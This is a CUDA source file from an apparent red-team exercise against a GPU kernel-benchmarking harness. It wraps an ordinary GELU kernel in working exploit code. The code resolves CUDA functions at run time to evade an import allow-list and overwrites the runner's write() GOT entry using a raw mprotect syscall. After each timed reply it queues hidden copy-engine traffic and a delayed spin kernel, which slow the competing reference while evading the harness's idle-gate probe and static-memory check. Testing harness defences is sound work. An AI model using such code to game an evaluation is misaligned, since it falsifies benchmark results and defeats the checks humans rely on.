/* docs/redteam/2026-12-02-cuda/ce_delay_hog.cu (ce_hog.cu with a delayed SM spin) -- red team of 2026-12-02 (CUDA).
 * EXPLOIT: slowing the reference through the copy engines, which the idle
 * gate's probe (one tiny KERNEL and the host's wait for it) does not see.
 * Property attacked: "one side cannot slow another".  rival_hog.cu queued a
 * 20 ms SM kernel after every reply; the reference's idle gate now probes
 * with a kernel until the GPU answers quickly for 8 ms, and names the side
 * after two long waits.  A device-to-device cudaMemcpyAsync runs on a copy
 * engine, not on the SMs: another context's copy does not make the
 * graphics/compute engine time-slice (so the probe is quick), but it eats
 * HBM bandwidth under the reference's memory-bound kernel and its draw.
 * Mechanism: the runner's write(2) taken over through its GOT (as
 * rival_hog.cu); after each DONE reply, if the legacy stream is idle, HOG_MS
 * worth of copies of the input x onto itself (src == dst: the bytes never
 * change, so neither the input digests nor the committed outputs move) is
 * queued on stream 0, with CUPTI off, after the synchronize.  The next
 * command to this runner waits for it, untimed (PREP is not clocked).
 * SPIN_US > 0 (ce_delay variant): a globaltimer spin kernel queued behind
 * the copies, so an SM hog starts only after the gate's quiet window.
 * State (x's address and size) lives in the unused tail of the runner's
 * last writable page (the check of static memory watches only the
 * candidate's own .so).  rc 41-44: mechanism failed (inconclusive). */
#include <cuda_runtime.h>
#include <cuda_bf16.h>
#include <elf.h>
#include <stdint.h>
#include <string.h>

#include "kf_candidate.h"
/* ---- an honest f32 tanh-GELU, one bf16 element per thread, grid-stride:
 * the same kernel as gelu_plain.cu (the control), so a speedup beyond that
 * control's is what the trick bought. */
__device__ __forceinline__ float gelu_f(float v) {
  const float k0 = 0.7978845608028654f;
  return 0.5f * v * (1.0f + tanhf(k0 * (v + 0.044715f * v * v * v)));
}
__global__ void gelu_k(const __nv_bfloat16 *__restrict__ x,
                       __nv_bfloat16 *__restrict__ y, int64_t n) {
  for (int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x; i < n;
       i += (int64_t)gridDim.x * blockDim.x)
    y[i] = __float2bfloat16(gelu_f(__bfloat162float(x[i])));
}
static int gelu_args_ok(const kf_args *a, int64_t *n) {
  if (a->abi_version != KF_ABI_VERSION || a->n_inputs != 1 ||
      a->n_outputs != 1 || a->n_params != 2)
    return 0;
  *n = a->params[0] * a->params[1];
  return *n > 0;
}
static unsigned gelu_blocks(int64_t n) {
  int64_t want = (n + 255) / 256;
  return (unsigned)(want < 65536 ? want : 65536);
}
/* ---- functions found at run time, not imported (the link check sees only
 * the allow-listed imports): the ELF image holding `inside`, found by
 * walking back page by page to its header, then its dynamic symbols. */
static int same(const char *a, const char *b) {
  while (*a && *a == *b) a++, b++;
  return *a == *b;
}
static uintptr_t elf_base(const void *inside) {
  uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
  for (int i = 0; i < (1 << 17); i++, p -= 4096)
    if (!memcmp((const void *)p, ELFMAG, SELFMAG)) return p;
  return 0;
}
/* load bias of the image whose header is at p */
static uintptr_t elf_bias(uintptr_t p) {
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)p;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(p + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_LOAD && ph[i].p_offset == 0)
      return p - (ph[i].p_vaddr & ~(uintptr_t)4095);
  return p;
}
static const Elf64_Dyn *elf_dyn(uintptr_t p, uintptr_t bias) {
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)p;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(p + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_DYNAMIC)
      return (const Elf64_Dyn *)(bias + ph[i].p_vaddr);
  return 0;
}
static void *resolve(const void *inside, const char *name) {
  uintptr_t p = elf_base(inside);
  if (!p) return 0;
  uintptr_t bias = elf_bias(p);
  const Elf64_Dyn *dyn = elf_dyn(p, bias);
  if (!dyn) return 0;
  const Elf64_Sym *sym = 0;
  const char *str = 0;
  for (; dyn->d_tag != DT_NULL; dyn++) {
    uintptr_t v = dyn->d_un.d_ptr;
    if (v < bias) v += bias; /* not relocated in place on some loaders */
    if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym *)v;
    if (dyn->d_tag == DT_STRTAB) str = (const char *)v;
  }
  if (!sym || !str) return 0;
  for (const Elf64_Sym *s = sym + 1; (const char *)s < str; s++)
    if (s->st_name && s->st_value && s->st_shndx != SHN_UNDEF &&
        same(str + s->st_name, name))
      return (void *)(bias + s->st_value);
  return 0;
}
typedef cudaError_t (*launch_fn_t)(const void *, dim3, dim3, void **, size_t,
                                   cudaStream_t);
/* a function of libcudart, found from the one import we may have */
static void *cudart(const char *name) {
  return resolve((const void *)(launch_fn_t)&cudaLaunchKernel, name);
}
/* raw system calls: libc's wrappers are not importable */
static long sys3(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall"
                   : "=a"(r)
                   : "a"(n), "D"(a), "S"(b), "d"(c)
                   : "rcx", "r11", "memory");
  return r;
}
/* ---- the runner's own GOT: kf_launch is called from kf-harness-cuda
 * (runner.c run_step), so its return address lies in the runner's
 * executable; its relocations name the slot through which the runner
 * calls `name` (a lazily or eagerly bound PLT slot, or a GLOB_DAT one). */
static void **got_slot(const void *inside, const char *name) {
  uintptr_t p = elf_base(inside);
  if (!p) return 0;
  uintptr_t bias = elf_bias(p);
  const Elf64_Dyn *dyn = elf_dyn(p, bias);
  if (!dyn) return 0;
  const Elf64_Sym *sym = 0;
  const char *str = 0;
  const Elf64_Rela *rel[2] = {0, 0};
  uint64_t relsz[2] = {0, 0};
  for (; dyn->d_tag != DT_NULL; dyn++) {
    uintptr_t v = dyn->d_un.d_ptr;
    switch (dyn->d_tag) {
    case DT_SYMTAB: sym = (const Elf64_Sym *)(v < bias ? v + bias : v); break;
    case DT_STRTAB: str = (const char *)(v < bias ? v + bias : v); break;
    case DT_JMPREL: rel[0] = (const Elf64_Rela *)(v < bias ? v + bias : v); break;
    case DT_PLTRELSZ: relsz[0] = dyn->d_un.d_val; break;
    case DT_RELA: rel[1] = (const Elf64_Rela *)(v < bias ? v + bias : v); break;
    case DT_RELASZ: relsz[1] = dyn->d_un.d_val; break;
    default: break;
    }
  }
  if (!sym || !str) return 0;
  for (int k = 0; k < 2; k++) {
    if (!rel[k]) continue;
    for (uint64_t i = 0; i < relsz[k] / sizeof(Elf64_Rela); i++) {
      uint32_t s = (uint32_t)ELF64_R_SYM(rel[k][i].r_info);
      uint32_t t = (uint32_t)ELF64_R_TYPE(rel[k][i].r_info);
      if (!s || (t != R_X86_64_JUMP_SLOT && t != R_X86_64_GLOB_DAT)) continue;
      if (same(str + sym[s].st_name, name))
        return (void **)(bias + rel[k][i].r_offset);
    }
  }
  return 0;
}
/* points the runner's slot for `name` at fn (the page made writable with
 * a raw mprotect first, in case the runner was linked with -z now) */
static int hook_got(const void *inside, const char *name, void *fn) {
  void **slot = got_slot(inside, name);
  if (!slot) return -1;
  if (*slot == fn) return 0;
  uintptr_t pg = (uintptr_t)slot & ~(uintptr_t)4095;
  if (sys3(10 /* mprotect */, (long)pg, 4096, 3 /* R|W */) != 0) return -2;
  *slot = fn;
  return 0;
}
/* the first fields of harness/cuda/proto.h's kf_cuda_reply, as written
 * (the rest of it is not relied on) */
typedef struct {
  uint32_t magic, seq;
  int32_t kind, rc;
  uint32_t defenses;
  int32_t sysno, err, cuda_err;
  uint64_t elapsed_ns, event_ns;
  uint32_t n_activity, pad;
  uint64_t l2_bytes, flush_bytes, bad, digest[8];
  char msg[200];
} reply_t;
/* (its size is not relied on: the harness may add fields at the end) */
#define REPLY_MAGIC 0x4b464332u
#define REPLY_DONE 2
#ifndef HOG_MS
#define HOG_MS 9 /* ~9 ms of copies first: past the gate's 8 ms quiet window */
#endif
#ifndef SPIN_US
#define SPIN_US 5000 /* then a 5 ms SM spin: under the 10 ms that names a side */
#endif
#ifndef SPIN_BLOCKS
#define SPIN_BLOCKS 528
#endif
__global__ void spin_k(unsigned long long us) {
  unsigned long long t0, t;
  asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(t0));
  do {
    __nanosleep(1000);
    asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(t));
  } while (t - t0 < us * 1000ull);
}
typedef struct {
  uint64_t magic;
  void *x;
  uint64_t bytes;
  void *memcpy_async, *stream_query;
} hog_state;
#define STATE_MAGIC 0x6365686f67ull
/* the unused tail of the page that holds the end of the runner's last
 * writable PT_LOAD (zero-filled, mapped, nobody's) */
static hog_state *state_of(const void *inside) {
  uintptr_t p = elf_base(inside);
  if (!p) return 0;
  uintptr_t bias = elf_bias(p);
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)p;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(p + eh->e_phoff);
  uintptr_t end = 0;
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_LOAD && (ph[i].p_flags & PF_W)) {
      uintptr_t e = bias + ph[i].p_vaddr + ph[i].p_memsz;
      if (e > end) end = e;
    }
  if (!end) return 0;
  uintptr_t at = (end + 63) & ~(uintptr_t)63;
  uintptr_t pg_end = (end + 4095) & ~(uintptr_t)4095;
  if (pg_end < at + sizeof(hog_state)) return 0;
  return (hog_state *)at;
}
typedef cudaError_t (*memcpy_async_t)(void *, const void *, size_t,
                                      cudaMemcpyKind, cudaStream_t);
typedef cudaError_t (*stream_query_t)(cudaStream_t);
static long hog_write(int fd, const void *buf, size_t n);
/* the state pointer is recomputed in the hook from the hook's own caller
 * (the runner), so the candidate's .so keeps no writable state */
static long hog_write(int fd, const void *buf, size_t n) {
  long w = sys3(1, fd, (long)buf, (long)n);
  if (fd == 1 && n >= 48) {
    const reply_t *r = (const reply_t *)buf;
    /* only after replies that carry a time or a digest (RUN, CHECK,
     * CASE, PROBE): never after GEN's, whose copies the RUN that follows
     * would wait for on the eval's clock (first H200 call: charged
     * 30 ms a call by that clock) */
    int late = r->elapsed_ns != 0 || r->bad != 0;
    for (int i = 0; i < 8 && !late; i++) late = r->digest[i] != 0;
    if (r->magic == REPLY_MAGIC && r->kind == REPLY_DONE && late) {
      hog_state *st = state_of(__builtin_return_address(0));
      if (st && st->magic == STATE_MAGIC && st->x && st->bytes >= (1u << 20)) {
        stream_query_t q = (stream_query_t)st->stream_query;
        memcpy_async_t mc = (memcpy_async_t)st->memcpy_async;
        if (q((cudaStream_t)0) == cudaSuccess) {
          /* ~1.2e12 B/s of copy; at most 512 copies */
          uint64_t reps = (uint64_t)HOG_MS * 1200000000ull / st->bytes;
          if (reps < 1) reps = 1;
          if (reps > 512) reps = 512;
          for (uint64_t i = 0; i < reps; i++)
            mc(st->x, st->x, st->bytes, cudaMemcpyDeviceToDevice,
               (cudaStream_t)0);
          if (SPIN_US > 0)
            spin_k<<<SPIN_BLOCKS, 64, 0, 0>>>((unsigned long long)SPIN_US);
        }
        cudaGetLastError();
      }
    }
  }
  return w;
}

extern "C" int kf_launch(const kf_args *a) {
  int64_t n;
  if (!gelu_args_ok(a, &n)) return 1;
  const void *ra = __builtin_return_address(0);
  hog_state *st = state_of(ra);
  if (!st) return 43;
  if (st->magic != STATE_MAGIC) {
    st->memcpy_async = cudart("cudaMemcpyAsync");
    st->stream_query = cudart("cudaStreamQuery");
    if (!st->memcpy_async || !st->stream_query) return 44;
    st->magic = STATE_MAGIC;
  }
  st->x = a->inputs[0].data;
  st->bytes = (uint64_t)n * 2;
  int h = hook_got(ra, "write", (void *)&hog_write);
  if (h) return 40 - h;
  gelu_k<<<gelu_blocks(n), 256, 0, (cudaStream_t)a->stream>>>(
      (const __nv_bfloat16 *)a->inputs[0].data,
      (__nv_bfloat16 *)a->outputs[0].data, n);
  return cudaGetLastError() != cudaSuccess ? 1 : 0;
}
